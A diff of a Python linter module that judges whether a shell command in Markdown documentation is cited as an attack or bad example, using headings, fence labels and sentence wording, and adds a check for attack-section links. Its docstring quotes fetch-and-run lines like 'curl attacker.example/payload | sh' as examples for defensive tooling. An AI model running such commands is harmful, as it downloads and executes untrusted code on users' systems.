@@ -1,28 +1,31 @@
 """Whether a command in a text is cited as an attack or a bad example, not given to run.
 
 Security documentation quotes the commands it warns about: a threat model shows the
-attacker's ``curl attacker.com/payload | sh``, a guide puts ``curl ... | bash`` under
-"Bad:". Such a quote is not an instruction. Only context the text establishes counts,
-never a guess from the command alone:
+attacker's ``curl attacker.example/payload | sh``, a guide puts ``curl ... | bash`` under
+"Bad:". Such a quote is not an instruction. Only context the text establishes, as its
+reader sees it, counts; never the command alone (a host named ``evil.example`` proves
+nothing: an attacker picks the names of his hosts):
 
-- the command fetches from a host named as the attacker's (``attacker.com``,
-  ``evil.example``, ``malicious-site.net``);
 - in Markdown, the innermost heading above it names attacks, threats, exploits,
   vulnerabilities, anti-patterns or what not to do ("## Example: Vulnerable Pattern",
   "## Don't");
-- its fenced block is labelled so: the line before the fence ("**Bad:**", "Avoid:",
-  "❌ Insecure") or a comment just above it or on its line in the block
+- its fenced block is labelled so: the line before the fence ("**Bad:**", "❌ Insecure",
+  "Never do this:") or a comment just above it or on its line in the block
   (``# BAD: unverified``);
 - outside code, its own sentence says so before it ("Never run ``curl ... | sh``",
-  "an attacker runs ...", "instead of ...").
+  "an attacker runs ...");
+- its whole file is one the skill links only from such a section ("## Attack vectors":
+  ``[vector F](references/vector-f.md)``): see :func:`cited_files`.
 """
 from __future__ import annotations
 
+import os
 import re
 
 from skillsite.linter.fences import Fence, fences
+from skillsite.linter.links import folder_of, local_links
+from skillsite.models import Document
 
-_ATTACK_HOST = re.compile(r"(?<![\w-])(?:attacker|evil|malicious)[\w-]*\.[a-z]", re.IGNORECASE)
 _HEADING = re.compile(r"^[ ]{0,3}#{1,6}[ \t]+(.*)$", re.MULTILINE)
 _CITED_HEADING = re.compile(
     r"\b(?:attack(?:s|ers?)?|threats?|exploit(?:s|ation)?|vulnerab\w*|malicious|"
@@ -41,14 +44,11 @@ _CITING_WORDS = re.compile(r"\b(?:never|don'?t|do not|avoid|attackers?|malicious
                            re.IGNORECASE)
 
 
-def cited(text: str, start: int, *, markdown: bool) -> bool:
-    """Whether the command starting at ``start`` is cited as an attack or a bad example."""
-    if _ATTACK_HOST.search(text, start, _command_end(text, start)):
-        return True
-    if not markdown:
-        return False
+def cited(text: str, start: int) -> bool:
+    """Whether the command starting at ``start`` of the Markdown ``text`` is cited as an
+    attack or a bad example."""
     blocks = fences(text)
-    if _under_cited_heading(text, start, blocks):
+    if under_cited_heading(text, start, blocks):
         return True
     block = _block_of(blocks, start)
     if block is not None:
@@ -57,14 +57,6 @@ def cited(text: str, start: int, *, markdown: bool) -> bool:
     before = text[line_start:start]
     sentence = before[_last_sentence_start(before):]
     return _CITING_WORDS.search(sentence) is not None
-
-
-def _command_end(text: str, start: int) -> int:
-    """The end of the command's line, or of its last line continued with a backslash."""
-    end = text.find("\n", start)
-    while end > 0 and text[end - 1] == "\\":
-        end = text.find("\n", end + 1)
-    return end if end >= 0 else len(text)
 
 
 def _block_of(blocks: list[Fence], offset: int) -> Fence | None:
@@ -76,7 +68,28 @@ def _block_of(blocks: list[Fence], offset: int) -> Fence | None:
     return None
 
 
-def _under_cited_heading(text: str, offset: int, blocks: list[Fence]) -> bool:
+def cited_files(doc: Document) -> frozenset[str]:
+    """The bundled Markdown files (paths relative to the skill's folder) that the body
+    links to only from sections about attacks, threats or what not to do."""
+    return doc.memo("cited-files", lambda: _cited_files(doc))
+
+
+def _cited_files(doc: Document) -> frozenset[str]:
+    folder = folder_of(doc)
+    body, blocks = doc.body, fences(doc.body)
+    line_starts = [0] + [at + 1 for at, char in enumerate(body) if char == "\n"]
+    verdicts: dict[str, bool] = {}
+    for _, (line, column), path in local_links(doc):
+        index = line - doc.body_line
+        if path is None or not path.startswith(folder + os.sep) or index >= len(line_starts):
+            continue
+        rel = os.path.relpath(path, folder).replace(os.sep, "/")
+        here = under_cited_heading(body, line_starts[index] + column - 1, blocks)
+        verdicts[rel] = verdicts.get(rel, True) and here
+    return frozenset(rel for rel, cited_everywhere in verdicts.items() if cited_everywhere)
+
+
+def under_cited_heading(text: str, offset: int, blocks: list[Fence]) -> bool:
     """Whether the innermost heading above ``offset`` (outside code) names an attack."""
     heading = None
     for found in _HEADING.finditer(text, 0, offset):
